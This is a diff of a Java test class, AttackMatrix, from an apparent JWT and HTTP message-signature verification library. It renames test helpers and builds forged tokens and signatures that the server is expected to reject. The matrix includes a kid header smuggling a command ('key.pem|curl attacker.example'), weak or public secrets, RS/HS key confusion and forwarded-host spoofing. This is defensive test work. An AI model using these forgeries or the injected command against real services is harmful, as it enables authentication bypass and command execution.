@@ -2,13 +2,14 @@ package io.github.approovjaxrs;
 
 import io.github.approovjaxrs.core.ApproovConfig;
 import io.github.approovjaxrs.core.ApproovListener;
-import io.github.approovjaxrs.testing.TestTokens;
-import io.github.approovjaxrs.testing.TestSignatures;
-import static io.github.approovjaxrs.testing.TestTokens.HS256_HEADER;
-import static io.github.approovjaxrs.testing.TestTokens.SECRET;
-import static io.github.approovjaxrs.testing.TestTokens.b64url;
-import static io.github.approovjaxrs.testing.TestTokens.pay;
-import static io.github.approovjaxrs.testing.TestTokens.sign;
+import io.github.approovjaxrs.testing.ApproovTokens;
+import io.github.approovjaxrs.testing.MessageSignature;
+import io.github.approovjaxrs.testing.TestKeys;
+import static io.github.approovjaxrs.TestSecret.SECRET;
+import static io.github.approovjaxrs.testing.ApproovTokens.HS256_HEADER;
+import static io.github.approovjaxrs.testing.ApproovTokens.b64url;
+import static io.github.approovjaxrs.testing.ApproovTokens.pay;
+import static io.github.approovjaxrs.testing.ApproovTokens.sign;
 
 import java.io.ByteArrayOutputStream;
 import java.net.URI;
@@ -60,8 +61,8 @@ final class AttackMatrix {
 
     private static KeyPair keyWithUrlUnsafeBase64() {
         while (true) {
-            KeyPair key = TestSignatures.installationKeyPair();
-            String ipk = TestSignatures.ipk(key.getPublic());
+            KeyPair key = TestKeys.ec("secp256r1");
+            String ipk = ApproovTokens.ipk(key.getPublic());
             if (ipk.indexOf('+') >= 0 || ipk.indexOf('/') >= 0) {
                 return key;
             }
@@ -131,10 +132,10 @@ final class AttackMatrix {
 
 
     static final byte[] ATTACKER_SECRET = "attacker-secret-attacker-secret!".getBytes(StandardCharsets.US_ASCII);
-    static final KeyPair RSA = TestTokens.keyPair("RSA", 2048);
-    static final KeyPair EC = TestTokens.keyPair("EC", 256);
-    static final KeyPair ATTACKER_RSA = TestTokens.keyPair("RSA", 2048);
-    static final KeyPair ATTACKER_EC = TestTokens.keyPair("EC", 256);
+    static final KeyPair RSA = TestKeys.rsa(2048);
+    static final KeyPair EC = TestKeys.ec("secp256r1");
+    static final KeyPair ATTACKER_RSA = TestKeys.rsa(2048);
+    static final KeyPair ATTACKER_EC = TestKeys.ec("secp256r1");
     /** The app installation's key pair of the message-signing cases (its public key is the tokens' ipk). */
     /** The device's key; its base64 has a '+' or '/', so the case "ipk in base64url" really differs from the ipk. */
     static final KeyPair DEVICE = keyWithUrlUnsafeBase64();
@@ -267,7 +268,7 @@ final class AttackMatrix {
         attack("kid command injection", sign("{\"alg\":\"HS256\",\"kid\":\"key.pem|curl attacker.example\"}", claims, ATTACKER_SECRET));
         attack("kid of 3000 characters", sign("{\"alg\":\"HS256\",\"kid\":\"" + "k".repeat(3000) + "\"}", claims, ATTACKER_SECRET));
         attack("blank secret (jwt_tool -X b)", sign(HS256_HEADER, claims, new byte[1]));
-        attack("Approov's public dummy secret", sign(HS256_HEADER, claims, Base64.getDecoder().decode(TestTokens.DUMMY_SECRET_BASE64)));
+        attack("Approov's public dummy secret", sign(HS256_HEADER, claims, Base64.getDecoder().decode(ApproovTokens.DUMMY_SECRET_BASE64)));
         attack("a dictionary secret: secret", sign(HS256_HEADER, claims, "secret".getBytes(StandardCharsets.US_ASCII)));
         attack("jwt.io's default secret", sign(HS256_HEADER, claims, "your-256-bit-secret".getBytes(StandardCharsets.US_ASCII)));
         attack("the secret's base64 text used as the key", sign(HS256_HEADER, claims,
@@ -292,8 +293,8 @@ final class AttackMatrix {
         String audClaims = "{" + exp + ",\"aud\":\"" + AUDIENCE + "\"}";
         String payload = b64url(audClaims);
         byte[] rsaDer = RSA.getPublic().getEncoded();
-        byte[] rsaPem = TestTokens.pem(RSA.getPublic()).getBytes(StandardCharsets.US_ASCII);
-        byte[] ecPem = TestTokens.pem(EC.getPublic()).getBytes(StandardCharsets.US_ASCII);
+        byte[] rsaPem = TestKeys.pem(RSA.getPublic()).getBytes(StandardCharsets.US_ASCII);
+        byte[] ecPem = TestKeys.pem(EC.getPublic()).getBytes(StandardCharsets.US_ASCII);
         hardened("HS256 MAC'd with the RSA public key's DER as the secret (RS/HS confusion)",
                 sign("{\"alg\":\"HS256\"}", audClaims, rsaDer));
         hardened("HS256 MAC'd with the RSA public key's PEM text (jwt_tool -X k)", sign("{\"alg\":\"HS256\"}", audClaims, rsaPem));
@@ -602,7 +603,7 @@ final class AttackMatrix {
     private void messageSigning() {
         group = "message signing (@ApproovSigned)";
         String token = ipkToken(DEVICE.getPublic(), "");
-        TestSignatures.Signed genuine = sdk("GET", SIGNED, token).sign();
+        MessageSignature genuine = sdk("GET", SIGNED, token).sign();
         String input = genuine.signatureInput();
         String params = ";alg=\"ecdsa-p256-sha256\";created=" + now + ";expires=" + (now + 3600);
         String inner = input.substring("install=".length(), input.indexOf(";alg="));
@@ -694,8 +695,8 @@ final class AttackMatrix {
         signed("a signature of the same device over another of its tokens", "GET", SIGNED,
                 headers(token, sdk("GET", SIGNED, ipkToken(DEVICE.getPublic(), ",\"did\":\"another\"")).sign()));
         signedPost("the body changed under a covered Content-Digest", "{\"shape\":\"square\"}", token,
-                TestSignatures.contentDigest(body.getBytes(StandardCharsets.UTF_8)),
-                sdk("POST", SIGNED, token).cover("content-digest", TestSignatures.contentDigest(body.getBytes(StandardCharsets.UTF_8))));
+                MessageSignature.contentDigest(body.getBytes(StandardCharsets.UTF_8)),
+                sdk("POST", SIGNED, token).cover("content-digest", MessageSignature.contentDigest(body.getBytes(StandardCharsets.UTF_8))));
 
         // The signature's bytes (M10, M11)
         byte[] bytes = genuine.bytes();
@@ -705,7 +706,7 @@ final class AttackMatrix {
         signedBytes("r and s swapped", token, input, "install=:" + Base64.getEncoder().encodeToString(
                 concat(Arrays.copyOfRange(bytes, 32, 64), Arrays.copyOfRange(bytes, 0, 32))) + ":");
         signedBytes("the signature DER-encoded", token, input, "install=:" + Base64.getEncoder().encodeToString(der(bytes)) + ":");
-        TestSignatures.Signed slashy = findSignature(s -> s.signature().contains("+") || s.signature().contains("/"), token);
+        MessageSignature slashy = findSignature(s -> s.signature().contains("+") || s.signature().contains("/"), token);
         signedBytes("the signature in the base64url alphabet", token, slashy.signatureInput(),
                 slashy.signature().replace('+', '-').replace('/', '_'));
         String b64 = Base64.getEncoder().encodeToString(bytes);
@@ -718,18 +719,18 @@ final class AttackMatrix {
                 .sign()));
 
         // The ipk (M2, M3), each request signed with the installation key over its own token
-        String der = TestSignatures.ipk(DEVICE.getPublic());
+        String der = ApproovTokens.ipk(DEVICE.getPublic());
         byte[] offCurve = DEVICE.getPublic().getEncoded();
         offCurve[offCurve.length - 1] ^= 1;
         Map<String, String> ipks = new LinkedHashMap<>();
         ipks.put("ipk not base64", "\"not base64!\"");
         ipks.put("ipk a point off the curve", "\"" + Base64.getEncoder().encodeToString(offCurve) + "\"");
-        ipks.put("ipk a P-384 key", "\"" + TestSignatures.ipk(TestTokens.keyPair("EC", 384).getPublic()) + "\"");
-        ipks.put("ipk an RSA key", "\"" + TestSignatures.ipk(RSA.getPublic()) + "\"");
+        ipks.put("ipk a P-384 key", "\"" + ApproovTokens.ipk(TestKeys.ec("secp384r1").getPublic()) + "\"");
+        ipks.put("ipk an RSA key", "\"" + ApproovTokens.ipk(RSA.getPublic()) + "\"");
         ipks.put("ipk a number", "42");
         ipks.put("ipk without its padding", "\"" + der.replace("=", "") + "\"");
         ipks.put("ipk in base64url", "\"" + Base64.getUrlEncoder().encodeToString(DEVICE.getPublic().getEncoded()) + "\"");
-        ipks.put("ipk another installation's key, signed by this one", "\"" + TestSignatures.ipk(ATTACKER_EC.getPublic()) + "\"");
+        ipks.put("ipk another installation's key, signed by this one", "\"" + ApproovTokens.ipk(ATTACKER_EC.getPublic()) + "\"");
         for (Map.Entry<String, String> ipk : ipks.entrySet()) {
             String other = sign(HS256_HEADER, "{" + exp + ",\"ipk\":" + ipk.getValue() + "}", SECRET);
             signed(ipk.getKey(), "GET", SIGNED, headers(other, sdk("GET", SIGNED, other).sign()));
@@ -741,7 +742,7 @@ final class AttackMatrix {
 
         // The body (M12): the server requires a covered Content-Digest on any body
         byte[] bodyBytes = body.getBytes(StandardCharsets.UTF_8);
-        String digest = TestSignatures.contentDigest(bodyBytes);
+        String digest = MessageSignature.contentDigest(bodyBytes);
         signedPost("a body and no Content-Digest", body, token, null, sdk("POST", SIGNED, token));
         signedPost("a right Content-Digest, not covered", body, token, digest, sdk("POST", SIGNED, token));
         String md5 = "md5=:" + Base64.getEncoder().encodeToString(digest("MD5", body)) + ":";
@@ -754,14 +755,14 @@ final class AttackMatrix {
                 sdk("POST", SIGNED, token).cover("content-digest", "sha-256=\"x\""));
         for (int size : List.of(MAX_BODY_BYTES + 1, 100_000)) {
             String big = "x".repeat(size);
-            String bigDigest = TestSignatures.contentDigest(big.getBytes(StandardCharsets.UTF_8));
+            String bigDigest = MessageSignature.contentDigest(big.getBytes(StandardCharsets.UTF_8));
             attacks.add(new Request(group, "a genuinely signed and digested body of " + size + " bytes, over the limit",
                     Target.SIGNED, "POST", SIGNED, List.of(headers(token, sdk("POST", SIGNED, token).cover("content-digest", bigDigest)
                             .sign(), "Content-Digest", bigDigest)), TOO_LARGE, big));
         }
 
         // Where the request went (M9): forwarded headers are never trusted, the raw path and query are signed
-        TestSignatures.Signed forEvil = signer().cover("@method", "GET").cover("@target-uri", "https://evil.example.com" + SIGNED)
+        MessageSignature forEvil = signer().cover("@method", "GET").cover("@target-uri", "https://evil.example.com" + SIGNED)
                 .cover("approov-token", token).sign();
         signed("X-Forwarded-Host of the host signed for", "GET", SIGNED, headers(token, forEvil, "X-Forwarded-Host",
                 "evil.example.com"));
@@ -779,7 +780,7 @@ final class AttackMatrix {
 
         // Composed with @ApproovBound: token, then binding, then signature
         String bound = ipkToken(DEVICE.getPublic(), ",\"pay\":\"" + pay(BEARER) + "\"");
-        TestSignatures.Signed all = sdk("GET", SIGNED_ALL, bound).sign();
+        MessageSignature all = sdk("GET", SIGNED_ALL, bound).sign();
         signed("bound and signed: no Authorization", "GET", SIGNED_ALL, headers(bound, all));
         signed("bound and signed: another Authorization", "GET", SIGNED_ALL, headers(bound, all, "Authorization", "Bearer other"));
         signed("bound and signed: the right Authorization, no signature", "GET", SIGNED_ALL, "Approov-Token", bound,
@@ -794,8 +795,8 @@ final class AttackMatrix {
         String token = ipkToken(DEVICE.getPublic(), "");
         String body = "{\"shape\":\"circle\"}";
         byte[] bodyBytes = body.getBytes(StandardCharsets.UTF_8);
-        String digest = TestSignatures.contentDigest(bodyBytes);
-        TestSignatures.Signed genuine = sdk("GET", SIGNED, token).sign();
+        String digest = MessageSignature.contentDigest(bodyBytes);
+        MessageSignature genuine = sdk("GET", SIGNED, token).sign();
         signedLegit("signed: as the SDK signs a GET (byte sequence)", "GET", SIGNED, null, headers(token, genuine));
         signedLegit("signed: the Android sf-String form", "GET", SIGNED, null, "Approov-Token", token, "Signature-Input",
                 genuine.signatureInput(), "Signature", genuine.signatureAsString());
@@ -806,7 +807,7 @@ final class AttackMatrix {
         signedLegit("signed: a POST with a covered sha-512 Content-Digest", "POST", SIGNED, body,
                 headers(token, sdk("POST", SIGNED, token).cover("content-digest", sha512).sign(), "Content-Digest", sha512));
         String limit = "y".repeat(MAX_BODY_BYTES);
-        String limitDigest = TestSignatures.contentDigest(limit.getBytes(StandardCharsets.UTF_8));
+        String limitDigest = MessageSignature.contentDigest(limit.getBytes(StandardCharsets.UTF_8));
         signedLegit("signed: a body of exactly the limit", "POST", SIGNED, limit, headers(token, sdk("POST", SIGNED, token)
                 .cover("content-digest", limitDigest).sign(), "Content-Digest", limitDigest));
         String query = SIGNED + "?q=a%20b&r=%C3%A9";
@@ -819,7 +820,7 @@ final class AttackMatrix {
         signedLegit("signed: a covered header sent as two lines, joined", "GET", SIGNED, null, headers(token,
                 sdk("GET", SIGNED, token).cover("x-device-info", "model=a, os=b").sign(), "X-Device-Info", "model=a",
                 "X-Device-Info", "os=b"));
-        TestSignatures.Signed other = sdk("GET", SIGNED, token).sign();
+        MessageSignature other = sdk("GET", SIGNED, token).sign();
         signedLegit("signed: both fields split over two lines, with another label", "GET", SIGNED, null, "Approov-Token", token,
                 "Signature-Input", other.signatureInput().replace("install=", "sig1="), "Signature-Input", genuine.signatureInput(),
                 "Signature", "sig1=:" + Base64.getEncoder().encodeToString(new byte[64]) + ":", "Signature", genuine.signature());
@@ -943,12 +944,11 @@ final class AttackMatrix {
     }
 
     static String signBytes(byte[] header, byte[] payload, byte[] secret) {
-        String signingInput = b64url(header) + "." + b64url(payload);
-        return signingInput + "." + b64url(TestTokens.hmac(signingInput, secret));
+        return sign(header, payload, secret);
     }
 
     static String asymmetric(String header, String payload, PrivateKey key, String algorithm) {
-        return TestTokens.signAsymmetric(header, payload, key, algorithm);
+        return ApproovTokens.sign(header, payload, key, algorithm);
     }
 
     /** RFC 7797: the payload travels unencoded and the signing input is the header, a dot and the raw payload. */
@@ -1034,7 +1034,7 @@ final class AttackMatrix {
         add(path, method, REFUSED, Target.SIGNED, name, headers);
     }
 
-    private void signedGet(String name, String token, TestSignatures.Signed signature) {
+    private void signedGet(String name, String token, MessageSignature signature) {
         signed(name, "GET", SIGNED, headers(token, signature));
     }
 
@@ -1044,7 +1044,7 @@ final class AttackMatrix {
     }
 
     /** A POST of {@code body}, with {@code contentDigest} (null: none) and the signature {@code signer} makes. */
-    private void signedPost(String name, String body, String token, String contentDigest, TestSignatures.Builder signer) {
+    private void signedPost(String name, String body, String token, String contentDigest, MessageSignature.Builder signer) {
         String[] headers = contentDigest == null ? headers(token, signer.sign())
                 : headers(token, signer.sign(), "Content-Digest", contentDigest);
         attacks.add(new Request(group, name, Target.SIGNED, "POST", SIGNED, List.of(headers), REFUSED, body));
@@ -1055,40 +1055,40 @@ final class AttackMatrix {
     }
 
     /** The token, the signature fields, then {@code more} header name/value pairs. */
-    private static String[] headers(String token, TestSignatures.Signed signature, String... more) {
+    private static String[] headers(String token, MessageSignature signature, String... more) {
         List<String> headers = new ArrayList<>(List.of("Approov-Token", token));
-        headers.addAll(List.of(signature.headers()));
+        signature.headers().forEach((name, value) -> headers.addAll(List.of(name, value)));
         headers.addAll(List.of(more));
         return headers.toArray(String[]::new);
     }
 
     /** A signer with no component yet, valid from now for an hour (the server allows an hour: see {@link #config}). */
-    private TestSignatures.Builder signer() {
+    private MessageSignature.Builder signer() {
         return signer(DEVICE.getPrivate());
     }
 
-    private TestSignatures.Builder signer(PrivateKey key) {
-        return TestSignatures.with(key).created(now).expires(now + 3600);
+    private MessageSignature.Builder signer(PrivateKey key) {
+        return MessageSignature.builder(key).created(now).expires(now + 3600);
     }
 
     /** As Approov's SDK signs {@code method} of {@code path} behind {@link #SIGNED_ORIGIN}: @method, @target-uri, the token. */
-    private TestSignatures.Builder sdk(String method, String path, String token) {
+    private MessageSignature.Builder sdk(String method, String path, String token) {
         return sdk(method, path, token, DEVICE.getPrivate());
     }
 
-    private TestSignatures.Builder sdk(String method, String path, String token, PrivateKey key) {
+    private MessageSignature.Builder sdk(String method, String path, String token, PrivateKey key) {
         return signer(key).cover("@method", method).cover("@target-uri", SIGNED_ORIGIN + path).cover("approov-token", token);
     }
 
     /** A token valid for an hour with {@code key} as its ipk, and {@code more} JSON members (each with a leading comma). */
     private String ipkToken(java.security.PublicKey key, String more) {
-        return sign(HS256_HEADER, "{" + exp + ",\"ipk\":\"" + TestSignatures.ipk(key) + "\"" + more + "}", SECRET);
+        return sign(HS256_HEADER, "{" + exp + ",\"ipk\":\"" + ApproovTokens.ipk(key) + "\"" + more + "}", SECRET);
     }
 
     /** A genuine GET signature whose base64 satisfies {@code wanted} (ECDSA is randomised, so a few tries find one). */
-    private TestSignatures.Signed findSignature(Predicate<TestSignatures.Signed> wanted, String token) {
+    private MessageSignature findSignature(Predicate<MessageSignature> wanted, String token) {
         for (int i = 0; i < 1_000; i++) {
-            TestSignatures.Signed signed = sdk("GET", SIGNED, token).sign();
+            MessageSignature signed = sdk("GET", SIGNED, token).sign();
             if (wanted.test(signed)) {
                 return signed;
             }
